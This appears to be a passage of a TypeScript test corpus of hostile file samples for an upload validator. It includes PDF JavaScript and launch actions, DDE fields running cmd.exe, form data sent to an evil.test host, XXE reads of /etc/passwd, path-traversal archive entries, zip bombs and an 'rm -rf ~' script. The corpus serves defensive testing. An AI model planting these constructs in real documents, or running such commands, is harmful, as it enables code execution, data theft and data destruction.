import { deflateRawSync, deflateSync } from 'node:zlib';
import { aZip } from './archive.ts';
import { aCompoundFile, aDoc, type DocParts } from './doc.ts';
import { aDocument, aDocx, aField, type DocxParts, mainType } from './docx.ts';
import { anObjectStream, aPackedPdf, aPdf, aStream, type PdfParts } from './pdf.ts';
import {
  aChunk,
  aJfif,
  aJpeg,
  anExif,
  aPng,
  aProfile,
  aScan,
  aSegment,
  exifTiff,
  pngPixels,
  pngStart,
} from './picture.ts';
import { type HostileSample, latin1 } from './sample.ts';

/** More than may be unpacked altogether, and no more than that takes to make. */
const bombSize = 210_000_000;
const program = Buffer.concat([latin1('MZ\x90\0\x03'), Buffer.alloc(200, 1)]);
const archive = aZip([{ name: 'run.class', content: program }]);
const oldOffice = aCompoundFile([{ name: 'Workbook', content: Buffer.alloc(5_000, 1) }]);
const page = '<html><script>alert(1)</script></html>';
const app = '/S /JavaScript /JS (app.alert\\(1\\))';

type Must = HostileSample['must'];
const sample =
  (kind: string, name: string) =>
  (what: string, bytes: Buffer | string, must: Must = 'unsafe-file', called = name): HostileSample => ({
    what: `${kind} ${what}`,
    name: called,
    bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
    must,
  });
const named = sample('a file', 'file');
const pdfFile = sample('a PDF', 'homework.pdf');
const jpegFile = sample('a JPEG', 'photo.jpg');
const pngFile = sample('a PNG', 'scan.png');
const docFile = sample('a DOC', 'letter.doc');
const docxFile = sample('a DOCX', 'letter.docx');
const csvFile = sample('a CSV', 'diary.csv');

const pdf = (what: string, parts: PdfParts, must?: Must) => pdfFile(what, aPdf(parts), must);
const docx = (what: string, parts: DocxParts, must?: Must) => docxFile(what, aDocx(parts), must);
const doc = (what: string, parts: DocParts, must?: Must) => docFile(what, aDoc(parts), must);

/** What does not belong into a name, or in none of the kinds. */
const names: readonly HostileSample[] = [
  named('that is a program and says so', program, 'unsafe-file', 'setup.exe'),
  named('with two extensions', aPdf(), 'unsafe-file', 'invoice.pdf.exe'),
  named('whose name runs backwards', program, 'unsafe-file', 'photo\u202Egpj.exe'),
  named('whose extension hides behind spaces', program, 'unsafe-file', `invoice.pdf${' '.repeat(100)}.scr`),
  named('whose extension hides behind a dot', program, 'unsafe-file', 'invoice.bat. . .'),
  named('whose extension hides behind something invisible', program, 'unsafe-file', 'invoice.cmd\u200B'),
  named('whose name is a stream of another file', program, 'unsafe-file', 'invoice.pdf:evil.exe'),
  named('that is a page', page, 'unsafe-file', 'page.html'),
  named('that is a drawing with a script', '<svg onload="alert(1)"/>', 'unsafe-file', 'drawing.svg'),
  named('that is a shortcut', 'L\0\0\0', 'unsafe-file', 'Homework.lnk'),
  named('that is a Word document with macros, and says so', aDocx(), 'unsafe-file', 'letter.docm'),
  named('that is a sheet with macros, and says so', aDocx(), 'unsafe-file', 'sheet.xlsm'),
  named('that is an archive', archive, 'unsupported-file', 'all.zip'),
  named('that is a photo of a new kind', '\0\0\0\x18ftypheic', 'unsupported-file', 'IMG_0001.HEIC'),
  named('without an extension', aPdf(), 'unsupported-file', 'homework'),
  named('that is only an extension of another kind', aPdf(), 'unsupported-file', '__proto__'),
  named('whose extension is a word of the language', aPdf(), 'unsupported-file', 'x.constructor'),
  ...['pdf', 'jpg', 'png', 'doc', 'docx', 'csv'].map((kind) =>
    named(`that is an empty ${kind.toUpperCase()}`, Buffer.alloc(0), 'invalid', `empty.${kind}`),
  ),
  named('of one byte too many', Buffer.alloc(26_214_401, 'a'), 'too-large', 'large.csv'),
];

/** Whatever is dressed as something else. */
const liars: readonly HostileSample[] = [
  ...(['pdf', 'jpg', 'png', 'doc', 'docx'] as const).flatMap((kind) => [
    named(`that says ${kind} and is a program`, program, 'unsafe-file', `x.${kind}`),
    named(`that says ${kind} and is a page`, page, 'unsafe-file', `x.${kind}`),
    named(`that says ${kind} and is plain text`, 'Hello there', 'unsupported-file', `x.${kind}`),
  ]),
  named('that says CSV and is a program', program, 'unsafe-file', 'x.csv'),
  named('that says PDF and is for Linux', '\x7FELF\x02\x01\x01', 'unsafe-file', 'x.pdf'),
  named('that says PDF and is a shell script', '#!/bin/sh\nrm -rf ~\n', 'unsafe-file', 'x.pdf'),
  named('that says PDF and is a photo', aJpeg(), 'unsupported-file', 'x.pdf'),
  named('that says JPG and is a PNG', aPng(), 'unsupported-file', 'x.jpg'),
  named('that says PNG and is a JPG', aJpeg(), 'unsupported-file', 'x.png'),
  named(
    'that says JPG and is a photo of a new kind',
    latin1('\0\0\0\x18ftypheic\0\0\0\0'),
    'unsupported-file',
    'x.jpg',
  ),
  named('that says DOC and is RTF', '{\\rtf1 hello}', 'unsupported-file', 'x.doc'),
  named('that says DOC and is a DOCX', aDocx(), 'unsupported-file', 'x.doc'),
  named('that says DOC and is a sheet', oldOffice, 'unsafe-file', 'x.doc'),
  named('that says DOCX and is a DOC', aDoc(), 'unsupported-file', 'x.docx'),
  named('that says DOCX and is any archive', archive, 'unsupported-file', 'x.docx'),
  named('that says PDF and is an archive', archive, 'unsupported-file', 'x.pdf'),
  named('that says PDF and only begins like one', '%PDF-1.7\nHello', 'invalid', 'x.pdf'),
  named('that says PNG and only begins like one', pngStart, 'invalid', 'x.png'),
  named('that says JPG and only begins like one', latin1('\xFF\xD8\xFF\xE0'), 'invalid', 'x.jpg'),
  named(
    'that says DOC and only begins like one',
    latin1('\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1'),
    'invalid',
    'x.doc',
  ),
  named('that says DOCX and only begins like one', 'PK\x03\x04', 'invalid', 'x.docx'),
];

const hiddenAction = `<< ${app} >>`;
const packedPdf = (what: string, ...objects: readonly string[]) => pdfFile(what, aPackedPdf(objects));

const pdfs: readonly HostileSample[] = [
  pdf('that runs a program when it is opened', { catalog: `/OpenAction << ${app} >>` }),
  pdf('that runs a program when it is printed', { catalog: `/AA << /WP << ${app} >> >>` }),
  pdf('with a program under a name', {
    catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>',
    objects: [hiddenAction],
  }),
  pdf('with a program nobody points to', { objects: [hiddenAction] }),
  pdf('whose program has an escaped name', { objects: ['<< /S /J#61vaScript /J#53 (x) >>'] }),
  pdf('whose program has a name of escapes alone', { objects: ['<< /S /#4a#61#76#61#53#63#72#69#70#74 >>'] }),
  pdf('whose kind of action lies elsewhere', { objects: ['<< /S 6 0 R >>', '/JavaScript'] }),
  packedPdf('with a program in an object stream', hiddenAction),
  packedPdf('with a program with an escaped name in an object stream', '<< /S /#4aavaScript /J#53 (x) >>'),
  pdf('with a program in an object stream that does not say what it is', {
    objects: [anObjectStream([hiddenAction], '/N COUNT /First FIRST /Filter /FlateDecode')],
  }),
  pdf('with a program in an object stream whose kind lies elsewhere', {
    objects: [anObjectStream([hiddenAction], '/Type 9 0 R /N COUNT /First FIRST /Filter /FlateDecode')],
  }),
  pdf('with a program in an object stream packed by a rare filter', {
    objects: [aStream('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', '<< /S /JavaScript >>')],
  }),
  pdf('whose filter lies elsewhere', {
    objects: [aStream('/Type /ObjStm /N 1 /First 4 /Filter 9 0 R', 'x')],
  }),
  pdf('that says twice how it is packed', {
    objects: [
      aStream('/Type /ObjStm /Type /X /N 1 /First 4 /Filter /FlateDecode', deflateSync(latin1('1 0 <<>>'))),
    ],
  }),
  pdf(
    'with an object stream that can’t be unpacked',
    {
      objects: [aStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'nonsense')],
    },
    'invalid',
  ),
  pdf('with a program inside of what is drawn', { content: `7 0 obj ${hiddenAction} endobj` }),
  pdf('with a name of action inside of what is drawn', {
    content: `7 0 obj${' '.repeat(200)}/Launch endobj`,
  }),
  pdf('with a program behind a stream that ends early', {
    content: `x\nendstream\nendobj\n7 0 obj\n${hiddenAction}\nendobj`,
  }),
  pdf('with a program in a string', {
    objects: [`(7 0 obj ${hiddenAction.replace(/\\?[()]/g, '')} endobj)`],
  }),
  pdf('with a program in a comment', { beforeTable: `% 7 0 obj ${hiddenAction} endobj\n` }),
  pdf('with a string that swallows the rest', { beforeTable: '(' }, 'invalid'),
  pdf('that starts a program', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  pdf('that starts a program, by an escaped name', { catalog: '/OpenAction << /S /L#61unch >>' }),
  pdf('that opens another file', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>' }),
  pdf('that opens a file in itself', { catalog: '/OpenAction << /S /GoToE /T << >> >>' }),
  pdf('that brings in data', { objects: ['<< /S /ImportData /F (x.fdf) >>'] }),
  pdf('that sends what is written', {
    objects: ['<< /S /SubmitForm /F << /FS /URL /F (https://evil.test) >> >>'],
  }),
  pdf('with a file in it', {
    objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', aStream('/Type /EmbeddedFile', program)],
  }),
  pdf('with a list of files in it', {
    catalog: '/Names << /Embedded#46iles 5 0 R >>',
    objects: ['<< /Names [] >>'],
  }),
  pdf('with a file pinned to its page', { page: '/Annots [<< /Subtype /FileAttachment >>]' }),
  pdf('with Flash', { page: '/Annots [<< /Subtype /RichMedia >>]' }),
  pdf('with a film', { page: '/Annots [<< /Subtype /Movie >>]' }),
  pdf('with a film to be played', { objects: ['<< /S /Rendition /R 6 0 R >>'] }),
  pdf('with a body in three dimensions', { page: '/Annots [<< /Subtype /3D >>]' }),
  pdf('with a form that is a program', {
    catalog: '/AcroForm << /XFA 5 0 R >>',
    objects: [aStream('', '<xdp/>')],
  }),
  pdf('whose page lies in another file', { objects: [aStream('/F (\\\\\\\\evil\\\\share\\\\x)', '')] }),
  pdf('with a link that runs a program', {
    page: '/Annots [<< /A << /S /URI /URI (java\\163cript:alert\\(1\\)) >> >>]',
  }),
  pdf('with a link to a file', { page: '/Annots [<< /A << /S /URI /URI (file:///c:/x.exe) >> >>]' }),
  pdf('with a link to another machine', { page: '/Annots [<< /A << /S /URI /URI <5c5c6576696c5c78> >> >>]' }),
  pdf('with a link in sixteen bits that runs a program', {
    page: `/Annots [<< /A << /S /URI /URI <FEFF${Buffer.from('javascript:', 'utf16le').swap16().toString('hex')}> >> >>]`,
  }),
  pdf(
    'that is locked',
    { trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] },
    'unsupported-file',
  ),
  pdf('that is locked, by an escaped name', { trailer: '/#45ncrypt 5 0 R' }, 'unsupported-file'),
  pdf('packed twice', {
    objects: [
      aStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.alloc(1_000_000)))),
    ],
  }),
  pdf(
    'with an object stream that unpacks to forty times what it may',
    {
      objects: [
        aStream(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          deflateSync(Buffer.alloc(60_000_000, ' ')),
        ),
      ],
    },
    'too-large',
  ),
  pdf('nested ten thousand times', { objects: ['['.repeat(10_000) + ']'.repeat(10_000)] }, 'too-large'),
  pdf('that is an archive, too', { after: archive }),
  pdf('that is an archive, too, and ends like a PDF', {
    beforeTable: Buffer.concat([archive, latin1('\n')]),
  }),
  pdfFile('behind a program', Buffer.concat([program, aPdf()])),
  pdfFile('behind a page', Buffer.concat([latin1(page), aPdf()])),
  pdf('that is a page, too', { header: `%PDF-1.7\n%${page}\n` }),
  pdf('with a page behind its end', { after: page }),
  pdf('with words behind its end', { after: 'Hello there, hello there' }),
  pdfFile('without pages', rewritten(aPdf(), /Pages/g, 'Pagez'), 'invalid'),
  pdfFile('whose table lies nowhere', rewritten(aPdf(), /startxref\n\d+/, 'startxref\n999999'), 'invalid'),
  pdfFile('whose table lies elsewhere', rewritten(aPdf(), /startxref\n\d+/, 'startxref\n40'), 'invalid'),
  pdf('with brackets across each other', { objects: ['[ << ] >>'] }, 'invalid'),
  pdf('with an object that is left open', { objects: ['<< /A', '<< >>'] }, 'invalid'),
  pdf('with a bracket nobody closes', { beforeTable: '[ ' }, 'invalid'),
  pdfFile('that was cut off', aPdf().subarray(0, 500), 'invalid'),
  pdfFile(
    'without a table',
    Buffer.from(aPdf().toString('latin1').replace('xref\n0', 'xxxx\n0'), 'latin1'),
    'invalid',
  ),
  pdfFile('of an edition there is not', aPdf({ header: '%PDF-9.9\n' }), 'invalid'),
];

const planted = ['Planted'];
const lost = { lose: planted } as const;

const jpegs: readonly HostileSample[] = [
  jpegFile('that says where it was taken', aJpeg({ segments: [aJfif(), anExif(1)] }), lost),
  jpegFile(
    'that says where it was taken, and which side is up',
    aJpeg({ segments: [anExif(6, 'MM')] }),
    lost,
  ),
  jpegFile(
    'with XMP',
    aJpeg({ segments: [aSegment(0xe1, 'http://ns.adobe.com/xap/1.0/\0<x>Planted</x>')] }),
    lost,
  ),
  jpegFile('with IPTC', aJpeg({ segments: [aSegment(0xed, 'Photoshop 3.0\x008BIM Planted')] }), lost),
  jpegFile('with a comment', aJpeg({ segments: [aSegment(0xfe, '<script>Planted</script>')] }), lost),
  jpegFile(
    'with a comment behind its pixels',
    aJpeg({ end: Buffer.concat([aSegment(0xfe, 'Planted'), Buffer.of(0xff, 0xd9)]) }),
    lost,
  ),
  jpegFile('with a preview', aJpeg({ segments: [aJfif(latin1('PlantedPlanted!'))] }), lost),
  jpegFile(
    'with a preview of its own kind',
    aJpeg({ segments: [aJfif(), aSegment(0xe0, 'JFXX\0\x10Planted')] }),
    lost,
  ),
  jpegFile('with two EXIFs', aJpeg({ segments: [anExif(1), anExif(3)] }), lost),
  jpegFile(
    'with EXIF that goes round in circles',
    aJpeg({ segments: [aSegment(0xe1, 'Exif\0\0II*\0\xFF\xFF\xFF\xFFPlanted')] }),
    lost,
  ),
  jpegFile('with a list of pictures', aJpeg({ segments: [aSegment(0xe2, 'MPF\0Planted')] }), lost),
  jpegFile(
    'with words behind the colour model',
    aJpeg({ segments: [aSegment(0xee, 'Adobe\0\x64\0\0\0\0\0Planted')] }),
    lost,
  ),
  jpegFile('with a film behind its end', aJpeg({ after: latin1('ftypmp42 Planted') }), lost),
  jpegFile('with a page behind its end', aJpeg({ after: latin1('<script>Planted</script>') }), lost),
  jpegFile('that is an archive, too', aJpeg({ after: archive })),
  jpegFile('that is an archive in its comment', aJpeg({ segments: [aSegment(0xfe, archive)] })),
  jpegFile('of four thousand million pixels', aJpeg({ width: 65_500, height: 65_500 }), 'too-large'),
  jpegFile('that is very wide', aJpeg({ width: 60_000, height: 2 }), 'too-large'),
  jpegFile('of no height', aJpeg({ height: 0 }), 'invalid'),
  jpegFile(
    'drawn over itself a thousand times',
    aJpeg({ frame: 0xc2, scans: Array.from({ length: 1_000 }, () => aScan()) }),
    'too-large',
  ),
  jpegFile(
    'with two frames',
    aJpeg({ late: [aSegment(0xc0, Buffer.of(8, 0, 8, 0, 8, 1, 1, 0x11, 0))] }),
    'invalid',
  ),
  jpegFile('without pixels', Buffer.of(0xff, 0xd8, 0xff, 0xd9), 'invalid'),
  jpegFile('that was cut off', aJpeg().subarray(0, -2), 'invalid'),
  jpegFile(
    'with a segment longer than itself',
    Buffer.concat([Buffer.of(0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff), latin1('x')]),
    'invalid',
  ),
  jpegFile('of a kind without loss', aJpeg({ frame: 0xc3 }), 'unsupported-file'),
  jpegFile('in twelve bits', aJpeg({ precision: 12 }), 'unsupported-file'),
];

const hugePng = aPng({
  width: 20_000,
  height: 20_000,
  pixels: [aChunk('IDAT', deflateSync(Buffer.alloc(99)))],
});

const pngs: readonly HostileSample[] = [
  ...(['tEXt', 'zTXt', 'iTXt', 'tIME', 'sPLT', 'prVW', 'zzZz'] as const).map((type) =>
    pngFile(
      `with ${type}`,
      aPng({ before: [aChunk(type, 'Comment\0Planted')], behind: [aChunk(type, 'Planted')] }),
      lost,
    ),
  ),
  pngFile('that says where it was taken', aPng({ before: [aChunk('eXIf', exifTiff(1))] }), lost),
  pngFile(
    'that says where it was taken, behind its pixels',
    aPng({ behind: [aChunk('eXIf', exifTiff(6))] }),
    lost,
  ),
  pngFile(
    'whose colour profile has a name that tells',
    aPng({ before: [aChunk('iCCP', Buffer.concat([latin1('Planted\0\0'), deflateSync(aProfile())]))] }),
    lost,
  ),
  pngFile(
    'whose colour profile is none',
    aPng({
      before: [aChunk('iCCP', Buffer.concat([latin1('Planted\0\0'), deflateSync(latin1('Planted'))]))],
    }),
    lost,
  ),
  pngFile('with an archive behind its end', aPng({ after: archive })),
  pngFile('with an older picture behind its end', aPng({ after: aPng() })),
  pngFile('that is an archive in its words', aPng({ behind: [aChunk('tEXt', archive)] })),
  pngFile('of four hundred million pixels', hugePng, 'too-large'),
  pngFile(
    'of two thousand million pixels across',
    aPng({ width: 0x7fffffff, height: 1, pixels: [aChunk('IDAT', '')] }),
    'too-large',
  ),
  pngFile(
    'that has too few pixels for what it says',
    aPng({ width: 9_000, height: 9_000, pixels: [aChunk('IDAT', deflateSync(Buffer.alloc(99)))] }),
    'invalid',
  ),
  pngFile(
    'that has more pixels than it says',
    aPng({ pixels: [aChunk('IDAT', deflateSync(Buffer.alloc(50_000_000)))] }),
    'invalid',
  ),
  pngFile(
    'whose profile unpacks to hundreds of megabytes',
    aPng({
      before: [aChunk('iCCP', Buffer.concat([latin1('Planted\0\0'), deflateSync(Buffer.alloc(bombSize))]))],
    }),
    lost,
  ),
  pngFile('with a wrong checksum', flipped(aPng(), 40), 'invalid'),
  pngFile('without an end', aPng().subarray(0, -12), 'invalid'),
  pngFile('without pixels', aPng({ pixels: [] }), 'invalid'),
  pngFile(
    'with something between its pixels',
    aPng({ pixels: [pngPixels(6, 5, 8, 2), aChunk('tEXt', 'x'), aChunk('IDAT', 'x')] }),
    'invalid',
  ),
  pngFile(
    'with a chunk nobody knows and everybody needs',
    aPng({ before: [aChunk('EVIL', 'x')] }),
    'invalid',
  ),
  pngFile('with two headers', aPng({ before: [aPng().subarray(8, 33)] }), 'invalid'),
  pngFile('of a depth there is not', aPng({ depth: 3 }), 'invalid'),
  pngFile(
    'for iPhone apps',
    Buffer.concat([pngStart, aChunk('CgBI', '\0\0\0\0'), aPng().subarray(8)]),
    'unsupported-file',
  ),
];

const docs: readonly HostileSample[] = [
  doc('with macros', {
    more: [{ name: 'Macros', children: [{ name: 'VBA', children: [{ name: 'dir', content: program }] }] }],
  }),
  doc('with macros under another roof', {
    more: [{ name: 'Stuff', children: [{ name: '_VBA_PROJECT', content: program }] }],
  }),
  doc('with macros of a sheet', { more: [{ name: '_VBA_PROJECT_CUR', children: [] }] }),
  doc('with commands that run macros', { commands: Buffer.of(0xff, 0x01, 1, 0, 0, 0, 0x56, 0, 0, 0) }),
  doc('with an object', {
    more: [
      {
        name: 'ObjectPool',
        children: [{ name: '_1234', children: [{ name: '\x01Ole10Native', content: program }] }],
      },
    ],
  }),
  doc('with an object beside its text', { more: [{ name: '\x01Ole10Native', content: program }] }),
  doc('with a package', { more: [{ name: 'Package', content: archive }] }),
  doc('with an equation that runs', { more: [{ name: 'Equation Native', content: program }] }),
  doc('that is a sheet, too', { more: [{ name: 'Workbook', content: Buffer.alloc(99) }] }),
  doc('that is a template', { flags: 0x0201 }),
  doc('tied to a template elsewhere', { template: 'https://evil.test/x.dotm' }),
  doc('tied to a template on another machine', { template: '\\\\evil\\share\\x.dot' }),
  doc('with DDE', { text: '\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14x\x15\r' }),
  doc('with DDE in eight bits', { narrow: true, text: '\x13DDE excel x\x15\r' }),
  doc('with DDE in pieces', { pieces: 1, text: '\x13 DDEAUTO cmd \x14x\x15\r' }),
  doc('with DDE in a field that has no end', { text: '\x13 DDEAUTO cmd\r' }),
  doc('with a field that is named by another', {
    text: '\x13 \x13 QUOTE 68 68 69 \x14DDE\x15 cmd \x14x\x15\r',
  }),
  doc('that fetches a picture', { text: '\x13 INCLUDEPICTURE "http://evil.test/x.png" \x14\x15\r' }),
  doc('that links to another machine', { text: '\x13 HYPERLINK "\\\\\\\\evil\\\\x" \x14\x15\r' }),
  doc('that is locked', { flags: 0x0300 }, 'unsupported-file'),
  docFile(
    'that is a locked DOCX',
    aCompoundFile([
      { name: 'EncryptionInfo', content: Buffer.alloc(200) },
      { name: 'EncryptedPackage', content: Buffer.alloc(9_000) },
    ]),
    'unsupported-file',
  ),
  docFile(
    'that is a presentation',
    aCompoundFile([{ name: 'PowerPoint Document', content: Buffer.alloc(9_000) }]),
  ),
  docFile(
    'that is a message of a mail program',
    aCompoundFile([{ name: '__properties_version1.0', content: Buffer.alloc(9_000) }]),
  ),
  doc('without text', { without: ['WordDocument'] }, 'unsupported-file'),
  doc('without a table', { without: ['1Table'] }, 'invalid'),
  doc('of a very old kind', { version: 0x68 }, 'unsupported-file'),
  docFile('that is an archive, too', Buffer.concat([aDoc(), archive])),
  docFile('with a program behind its end', Buffer.concat([aDoc(), Buffer.alloc(200_000, program)])),
  docFile('whose sectors go round in circles', circling(aDoc()), 'unsafe-file'),
  docFile('that was cut off', aDoc().subarray(0, 4_000), 'invalid'),
  doc('with an object of any name', {
    more: [{ name: 'ObjectPool', children: [{ name: '_1', content: program }] }],
  }),
  doc(
    'with a locked one beside it',
    { more: [{ name: 'EncryptedPackage', content: program }] },
    'unsupported-file',
  ),
  doc(
    'whose text is none',
    { without: ['WordDocument'], more: [{ name: 'WordDocument', content: Buffer.alloc(5_000) }] },
    'invalid',
  ),
  docFile('with a directory that goes round in circles', inDirectory(aDoc(), 1, 72, 1), 'invalid'),
  docFile('with a directory that leads out of itself', inDirectory(aDoc(), 0, 76, 999), 'invalid'),
  docFile('with a thing of no kind in its directory', inDirectory(aDoc(), 1, 66, 0x0109), 'invalid'),
  docFile('with a name longer than its place', inDirectory(aDoc(), 1, 64, 0x02010400), 'invalid'),
  docFile('with a stream longer than itself', inDirectory(aDoc(), 1, 120, 0x7fffffff), 'invalid'),
  docFile('with a stream longer than its chain', inDirectory(aDoc(), 1, 120, 9_000), 'invalid'),
  docFile('with a small stream that lies nowhere', inDirectory(aDoc(), 3, 116, 9_999), 'invalid'),
  docFile('with two streams in one place', inDirectory(aDoc(), 2, 116, 0), 'unsafe-file'),
  docFile('with two small streams in one place', inDirectory(aDoc(), 4, 116, 0), 'unsafe-file'),
  docFile('that counts its tables wrong', patched(aDoc(), 44, 9), 'invalid'),
  docFile('without a root', inDirectory(aDoc(), 0, 66, 0x0102), 'invalid'),
  docFile('with sectors of a size there is not', patched(aDoc(), 30, 31), 'invalid'),
];

const part = (name: string, content: Buffer | string) => ({ name, content });
const untyped = 'application/octet-stream';
const bomb = deflateRawSync(Buffer.alloc(bombSize));

const docxs: readonly HostileSample[] = [
  docx('with macros', { parts: [part('word/vbaProject.bin', program)] }),
  docx('with macros under a plain name', {
    types: `<Override PartName="/word/media/a.png" ContentType="application/vnd.ms-office.vbaProject"/>`,
  }),
  docx('with macros that are tied only', {
    ties: [['http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'media/a.png']],
  }),
  docx('that is a DOCM', { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  docx('that is a DOTM', { mainType: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml' }),
  docx(
    'that is a template',
    { mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' },
    'unsupported-file',
  ),
  docx(
    'that is a sheet',
    { mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' },
    'unsupported-file',
  ),
  docx('without types', { without: ['[Content_Types].xml'] }, 'unsupported-file'),
  docx('without its document', { without: ['word/document.xml'] }, 'unsupported-file'),
  docx('with an object', { parts: [part('word/embeddings/oleObject1.bin', oldOffice)] }),
  docx('with a sheet in it', { parts: [part('word/embeddings/sheet.xlsx', archive)] }),
  docx('with a program in it', { parts: [part('word/media/tool.exe', program)] }),
  docx('with a program that says it is a picture', { parts: [part('word/media/image1.png', program)] }),
  docx('with an object that says it is a drawing', { parts: [part('word/media/image1.emf', oldOffice)] }),
  docx('with an archive that says it is a font', { parts: [part('word/fonts/font1.odttf', archive)] }),
  docx('with words that say they are a picture', { parts: [part('word/media/image1.png', page)] }),
  docx('with a part of no kind', { parts: [part('word/data.bin', untyped)] }),
  docx('with a tool of ActiveX', { parts: [part('word/activeX/activeX1.xml', '<x/>')] }),
  docx('with an object in its text', {
    body: '<w:object><o:OLEObject xmlns:o="urn:o" Type="Embed"/></w:object>',
  }),
  docx('with a page in it', { body: '<w:altChunk r:id="rId1"/>', ties: [['aFChunk', 'afchunk.mht']] }),
  docx('tied to a template elsewhere', {
    ties: [['attachedTemplate', 'https://evil.test/x.dotm', 'External']],
  }),
  docx('tied to a template on this machine', {
    ties: [['attachedTemplate', 'file:///C:/x.dotx', 'External']],
  }),
  docx('with an object elsewhere', {
    ties: [['oleObject', 'mhtml:https://evil.test/x.html!x-usc:', 'External']],
  }),
  docx('with a frame', { ties: [['frame', 'https://evil.test/', 'External']] }),
  docx('with a picture elsewhere', { ties: [['image', 'https://evil.test/x.png', 'External']] }),
  docx('with a document in it that lies elsewhere', {
    ties: [['subDocument', 'file://evil/x.docx', 'External']],
  }),
  docx('with letters to many', { ties: [['mailMergeSource', 'file:///x.mdb', 'External']] }),
  docx('with a film', { ties: [['video', 'https://evil.test/x', 'External']] }),
  docx('tied to something new elsewhere', { ties: [['somethingNew', 'https://evil.test/x', 'External']] }),
  docx('tied by a word in other letters', {
    ties: [['AttachedTemplate', 'https://evil.test/x', 'External']],
  }),
  docx('with a link that runs a program', { ties: [['hyperlink', 'java&#9;script:alert(1)', 'External']] }),
  docx('with a link to a program of this machine', {
    ties: [['hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External']],
  }),
  docx('with a link to another machine', { ties: [['hyperlink', '\\\\evil\\share', 'External']] }),
  docx('tied to a place outside, that says it is inside', { ties: [['image', 'file:///etc/passwd']] }),
  docx('with DDE', { body: aField(' DDEAUTO c:\\\\windows\\\\cmd.exe ') }),
  docx('with DDE in two runs', { body: aField(' DD', 'EAUTO cmd ') }),
  docx('with DDE in a plain field', { body: '<w:fldSimple w:instr="DDE excel"/>' }),
  docx('with DDE in a field within a field', { body: aField(' IF ', aField(' DDEAUTO cmd ')) }),
  docx('with DDE in a field that has no end', {
    body: '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO x</w:instrText></w:r>',
  }),
  docx('with a field that is named by another', { body: aField(aField(' QUOTE 68 68 69 '), ' cmd ') }),
  docx('with DDE in a header', { parts: [part('word/header1.xml', aDocument(aField('DDE x')))] }),
  docx('that fetches a text', { body: aField(' INCLUDETEXT "https://evil.test" ') }),
  docx('whose drawing names its source', {
    body: '<v:imagedata xmlns:v="urn:v" src="https://evil.test/x.png"/>',
  }),
  docx('with a drawing that runs a script', {
    parts: [part('word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  }),
  docx('with a script in a drawing', {
    parts: [
      part('word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    ],
  }),
  docx('with a thousand million laughs', {
    document: `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>${aDocument('').replace(/^<\?.*\?>/, '')}`,
  }),
  docx('that reads a file of ours', {
    parts: [part('word/styles.xml', '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>')],
  }),
  docx('with a DOCTYPE in its ties', { parts: [part('word/_rels/header1.xml.rels', '<!DOCTYPE x><x/>')] }),
  docx('in an alphabet that hides', { document: aDocument('').replace('UTF-8', 'UTF-7') }),
  docx('that is no XML', { document: '<w:document><w:body>' }, 'invalid'),
  docx(
    'nested a hundred thousand times',
    { body: '<w:p>'.repeat(100_000) + '</w:p>'.repeat(100_000) },
    'too-large',
  ),
  docx(
    'that unpacks to hundreds of megabytes',
    { parts: [{ ...part('word/media/image1.bmp', ''), packed: bomb, size: bombSize }] },
    'too-large',
  ),
  docx(
    'with far too much text',
    { parts: [part('word/styles.xml', `<x>${' '.repeat(33_000_000)}</x>`)] },
    'too-large',
  ),
  docx('that unpacks to more than it says', {
    parts: [{ ...part('word/media/image1.bmp', ''), packed: bomb, size: 100 }],
  }),
  docx('with forty parts that are one and the same', {
    parts: [
      { name: 'word/media/a.bmp', content: Buffer.alloc(9_000_000), checksum: 0 },
      ...Array.from({ length: 40 }, (_, index) => ({
        name: `word/media/a${index}.bmp`,
        content: Buffer.alloc(9),
        over: 4,
      })),
    ],
  }),
  docx('with two parts over each other', {
    parts: [part('word/a.xml', '<x/>'), { name: 'word/a.xml', content: '<x/>', over: 4 }],
  }),
  docx('with two parts of one name', { parts: [part('word/a.xml', '<x/>'), part('WORD/A.xml', '<y/>')] }),
  docx('with two names for one part', {
    parts: [{ name: 'word/a.xml', localName: 'word/a.exe', content: '<x/>' }],
  }),
  docx(
    'with ten thousand parts',
    { parts: Array.from({ length: 10_000 }, (_, index) => part(`word/a${index}.xml`, '<x/>')) },
    'too-large',
  ),
  docx('with a path that leads out', { parts: [part('../../etc/cron.d/x', 'x')] }),
  docx('with a path from the top', { parts: [part('/etc/passwd', 'x')] }),
  docx('with a path of Windows', { parts: [part('word\\..\\..\\x.exe', 'x')] }),
  docx('with a path to a drive', { parts: [part('C:/x.xml', '<x/>')] }),
  docx('that is locked', { each: (each) => ({ ...each, flags: 1 }) }, 'unsupported-file'),
  docxFile(
    'that is locked as Word does it',
    aCompoundFile([{ name: 'EncryptedPackage', content: Buffer.alloc(9_000) }]),
    'unsupported-file',
  ),
  docx('packed in a rare way', { parts: [{ ...part('word/a.xml', '<x/>'), method: 12 }] }),
  docx('with a wrong checksum', { parts: [{ ...part('word/a.xml', '<x/>'), checksum: 1 }] }),
  docx('behind a program', { zip: { before: program } }),
  docx('before a program', { zip: { after: program } }),
